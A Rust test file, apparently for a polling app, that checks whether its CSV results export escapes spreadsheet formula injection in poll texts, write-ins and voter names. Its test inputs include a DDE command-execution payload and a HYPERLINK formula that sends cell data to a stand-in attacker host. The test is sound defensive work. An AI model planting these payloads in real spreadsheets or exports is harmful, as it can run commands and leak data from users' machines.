//! A spreadsheet finds no formula in the results, whoever wrote a text, and no cell of another's making.

use std::io::Cursor;

use serde_json::json;

use crate::harness::{TestPoll, TestServer, question};

/// What spreadsheets take for the beginning of a formula, also in the wide forms of East Asia.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
    "  =1",
    "\u{a0}=1",
    "\u{3000}+1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=\"a\",=\"b\"",
];
/// What only looks like one, and texts that could end a cell.
const OTHERS: [&str; 5] = ["1=1", "a,b", "say \"=1\"", "\"", "a;b|c"];

/// The table's cells, row by row.
fn table(server: &TestServer, poll: &TestPoll) -> Vec<Vec<String>> {
    let file = server.get(&format!("/{}/results.csv", poll.code));
    assert_eq!(file.status, 200);
    assert_eq!(file.header("Content-Type"), Some("text/csv; charset=utf-8"));
    let mut rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(Cursor::new(file.body));
    let rows = rows
        .records()
        .map(|row| row.expect("as many cells as the header"));
    rows.map(|row| row.iter().map(String::from).collect())
        .collect()
}

#[test]
fn a_text_of_anybody_is_no_formula_and_one_cell() {
    let server = TestServer::start();

    for (text, prefix) in FORMULAS
        .map(|text| (text, "'"))
        .into_iter()
        .chain(OTHERS.map(|text| (text, "")))
    {
        let own = json!({
            "text": text, "candidates": [text, "other"], "write_ins": "open", "pick": {"many": {"max": 3}},
        });
        let poll = server.make(&json!({"title": text, "questions": [question(own)]}));
        let written = format!("{text} too");
        assert_eq!(
            poll.vote(json!({"write_in": written, "name": text})).status,
            201,
            "{text}"
        );

        let rows = table(&server, &poll);

        let safe = format!("{prefix}{text}");
        let cells: Vec<_> = rows[1..].iter().map(|row| [&*row[1], &row[3]]).collect();
        assert_eq!(cells[..2], [[&*safe, &safe], [&safe, "other"]]);
        for cell in rows.iter().flatten() {
            let bare = cell.trim_start();
            assert!(
                !bare.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r']),
                "{cell:?}"
            );
        }
        assert_eq!(rows.len(), 4, "{rows:?}");
    }
}
